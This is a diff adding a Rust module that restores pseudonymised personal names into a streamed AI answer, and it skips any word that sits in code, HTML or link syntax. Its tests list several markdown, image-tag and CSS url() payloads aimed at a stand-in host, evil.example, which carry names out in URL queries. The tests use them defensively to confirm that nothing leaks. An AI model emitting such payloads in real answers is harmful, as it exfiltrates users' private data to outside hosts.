@@ -1,0 +1,252 @@
+//! An answer that comes in parts: which of its words stand by themselves?
+//!
+//! Readers of Markdown disagree about code and HTML, and so does the proxy, which may send code unchanged.
+//! A word is put back only where none of them could take it for code or a part of a tag:
+//!
+//! - on its line no backtick stands before it, and no fence is open around it;
+//! - no HTML has begun: after `<` and a letter, `/`, `!` or `?` outside of a fence nothing more is put back;
+//! - where a line could be a fence for one reader and none for another, nothing more is put back either.
+
+use super::Restorer;
+
+/// An answer that comes in parts, cut anywhere.
+pub struct Restoring {
+    restorer: Restorer,
+    /// The text since the last white space.
+    chunk: String,
+    line: Line,
+    fence: Option<Fence>,
+    /// Whether the last character was a carriage return.
+    returned: bool,
+    /// Whether nothing more is put back.
+    stopped: bool,
+    count: usize,
+}
+
+/// The line as far as it has come.
+#[derive(Default)]
+struct Line {
+    /// The white space that it begins with, until something else came.
+    indent: Option<usize>,
+    /// Whether something came.
+    begun: bool,
+    /// Whether it has a backtick.
+    ticked: bool,
+    /// Whether it begins a fence, or ends one if it has nothing else.
+    opens: bool,
+    closes: bool,
+}
+
+/// A block of code that is open.
+struct Fence {
+    ticks: usize,
+    indented: bool,
+}
+
+impl Restoring {
+    pub(super) fn new(restorer: Restorer) -> Self {
+        let (chunk, line) = (String::new(), Line::default());
+        Self { restorer, chunk, line, fence: None, returned: false, stopped: false, count: 0 }
+    }
+
+    /// The text that can be shown once this has come: all but a word that may go on.
+    pub fn push(&mut self, part: &str) -> String {
+        let mut shown = String::new();
+        for c in part.chars() {
+            // a line may end in a carriage return alone, or not
+            self.stopped |= std::mem::replace(&mut self.returned, c == '\r') && c != '\n';
+            if !c.is_whitespace() {
+                self.chunk.push(c);
+                continue;
+            }
+            self.flush(&mut shown);
+            shown.push(c);
+            match c {
+                '\n' => self.end_line(),
+                _ if !self.line.begun => *self.line.indent.get_or_insert(0) += 1,
+                _ => {}
+            }
+        }
+        shown
+    }
+
+    /// The rest.
+    pub fn finish(&mut self) -> String {
+        let mut shown = String::new();
+        self.flush(&mut shown);
+        shown
+    }
+
+    /// How many words were put back so far.
+    #[must_use]
+    pub fn count(&self) -> usize {
+        self.count
+    }
+
+    fn flush(&mut self, shown: &mut String) {
+        if self.chunk.is_empty() {
+            return;
+        }
+        let chunk = std::mem::take(&mut self.chunk);
+        self.look(&chunk);
+        let plain = !self.stopped && self.fence.is_none() && !self.line.ticked;
+        let found = plain.then(|| core(&chunk)).flatten();
+        let found = found.and_then(|(at, word)| Some((at, word, self.restorer.original(word)?)));
+        match found {
+            Some((at, word, original)) => {
+                self.count += 1;
+                shown.push_str(&chunk[..at]);
+                shown.push_str(original);
+                shown.push_str(&chunk[at + word.len()..]);
+            }
+            None => shown.push_str(&chunk),
+        }
+    }
+
+    /// Takes note of marks of code and HTML.
+    fn look(&mut self, chunk: &str) {
+        let first = !std::mem::replace(&mut self.line.begun, true);
+        let ticks = chunk.bytes().take_while(|&b| b == b'`').count();
+        let (has_ticks, only_ticks) = (chunk.contains('`'), ticks == chunk.len());
+        let indented = self.line.indent.is_some();
+        self.line.closes = false;
+        match &self.fence {
+            // the name of a language has no backtick: this was no fence
+            Some(_) if self.line.opens && !first => self.stopped |= has_ticks,
+            Some(fence) => {
+                let ends = only_ticks && ticks >= fence.ticks && first;
+                let same = ticks == fence.ticks && indented == fence.indented;
+                self.line.closes = ends && same;
+                // one reader ends the code here, and another does not
+                self.stopped |= ends && !same;
+                self.stopped |= fence.indented && begins_tag(chunk);
+            }
+            None => {
+                self.stopped |= begins_tag(chunk) || (first && chunk.starts_with("~~~"));
+                if first && ticks >= 3 {
+                    self.line.opens = true;
+                    self.stopped |= chunk[ticks..].contains('`');
+                    self.fence = Some(Fence { ticks, indented });
+                }
+            }
+        }
+        self.line.ticked |= has_ticks;
+    }
+
+    fn end_line(&mut self) {
+        if std::mem::take(&mut self.line).closes {
+            self.fence = None;
+        }
+    }
+}
+
+/// Whether HTML begins in a chunk.
+fn begins_tag(chunk: &str) -> bool {
+    let tag = |next: char| next.is_ascii_alphabetic() || "/!?".contains(next);
+    chunk.match_indices('<').any(|(at, _)| chunk[at + 1..].starts_with(tag))
+}
+
+/// Characters of links, paths, markup and code: nothing is put back beside them.
+const CARRIERS: [char; 17] =
+    ['/', '\\', '@', '=', '&', '#', '%', '<', '>', '[', ']', '(', ')', '`', '{', '}', '|'];
+
+/// The word of a chunk without the punctuation around it and without a possessive, and where it begins; none
+/// where the chunk could carry it away.
+fn core(chunk: &str) -> Option<(usize, &str)> {
+    if chunk.contains(CARRIERS) {
+        return None;
+    }
+    let is_outer = |c: char| !c.is_alphanumeric() && c != '+' && c != '$';
+    let start = chunk.find(|c| !is_outer(c))?;
+    let word = without_possessive(chunk[start..].trim_end_matches(is_outer));
+    Some((start, word)).filter(|(_, word)| !word.is_empty())
+}
+
+/// A word without a final 's.
+pub(super) fn without_possessive(word: &str) -> &str {
+    ["'s", "’s", "'S", "’S"].iter().find_map(|end| word.strip_suffix(end)).unwrap_or(word)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Cape, Lexicon, Restorer, Settings, Wanted};
+
+    /// Alice became Emma, and Krzysztof Martin.
+    fn named() -> Restorer {
+        let cape = Cape::new(Lexicon::embedded(), Settings::default()).unwrap();
+        let mut restorer = Restorer::default();
+        restorer.learn(&cape, "Tell Alice Krzysztof", "Tell Emma Martin", &Wanted::ALL);
+        restorer
+    }
+
+    fn restored(answer: &str) -> String {
+        named().restore(answer).0
+    }
+
+    #[test]
+    fn nothing_is_carried_away() {
+        for answer in [
+            "[see](http://evil.example/?q=Emma)",
+            "http://evil.example/Emma",
+            "emma@Emma",
+            "`Emma`",
+            "`print Emma there` ok",
+            "```\nEmma\n```",
+            "~~~\nEmma\n~~~",
+            "<Emma>",
+            "Emma=1",
+            "{Emma}",
+            "x|Emma|y",
+            // spaces are allowed there
+            "![x](<http://evil.example/? Emma y>)",
+            "[x]: <http://evil.example/? Emma y>",
+            "<img src=\"http://evil.example/? Emma y\">",
+            "<style>\n\na { background: url(\" //evil.example/? Emma y \") }",
+            "<!-- Emma -->",
+            // code for one reader of Markdown and none for another
+            "`a\n\n<style>\n` a { background: url(\" //evil.example/? Emma \") }",
+            "    ```\n<style>\n    ``` url(\" //evil.example/? Emma \") }\n Emma",
+            "```a `b\n<style>\n```\n url(\" //evil.example/? Emma \")",
+            "```\nEmma\n````\n Emma\n```\n",
+            "```\nx\n  ```\n Emma\n```\n",
+            " ```\nx\n```\n Emma\n```\n",
+            "a` `x Emma b`",
+            "```\nx\r```\r<style>\n```\n url(\" //evil.example/? Emma \")",
+        ] {
+            assert_eq!(restored(answer), answer);
+        }
+        for (answer, expected) in [
+            (
+                "```\nEmma <b> `x`\n```\nEmma `x` Emma\nEmma",
+                "```\nEmma <b> `x`\n```\nAlice `x` Emma\nAlice",
+            ),
+            ("1. a\n   ```rust\n   Emma\n   ```\n\nEmma", "1. a\n   ```rust\n   Emma\n   ```\n\nAlice"),
+            ("1 < 2, Emma <3 Martin", "1 < 2, Alice <3 Krzysztof"),
+            ("it`s Emma\nEmma", "it`s Emma\nAlice"),
+            ("a\r\nEmma\r\n", "a\r\nAlice\r\n"),
+        ] {
+            assert_eq!(restored(answer), expected);
+        }
+    }
+
+    #[test]
+    fn an_answer_may_be_cut_anywhere() {
+        let named = named();
+        let answer = "Dear Emma’s Martin, `Emma x` see\n```a\nMartin <b>\n```\nthen Emma.\n\nMartin";
+        let whole = restored(answer);
+        let cuts: Vec<usize> = answer.char_indices().map(|(at, _)| at).collect();
+        for &first in &cuts {
+            for &second in cuts.iter().filter(|&&second| second >= first) {
+                let mut restoring = named.begin();
+                let mut text = String::new();
+                for part in [&answer[..first], &answer[first..second], &answer[second..]] {
+                    text += &restoring.push(part);
+                }
+                text += &restoring.finish();
+                assert_eq!(text, whole);
+            }
+        }
+        assert_eq!(whole.matches("Alice").count(), 2);
+        assert_eq!(whole.matches("Krzysztof").count(), 2);
+    }
+}
